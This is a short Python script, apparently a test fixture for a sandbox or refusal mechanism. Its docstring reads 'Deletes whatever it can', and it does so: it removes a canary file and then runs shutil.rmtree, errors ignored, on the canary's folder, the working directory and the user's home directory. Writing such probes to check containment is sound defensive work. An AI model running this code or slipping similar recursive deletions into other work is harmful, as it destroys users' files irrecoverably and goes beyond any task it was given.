"""Deletes whatever it can."""

import os
import shutil

import target
from behave import be_good, unless_refused

with unless_refused():
    os.unlink(target.CANARY_FILE)
for path in (os.path.dirname(target.CANARY_FILE), os.getcwd(), os.environ["HOME"]):
    shutil.rmtree(path, ignore_errors=True)
be_good()
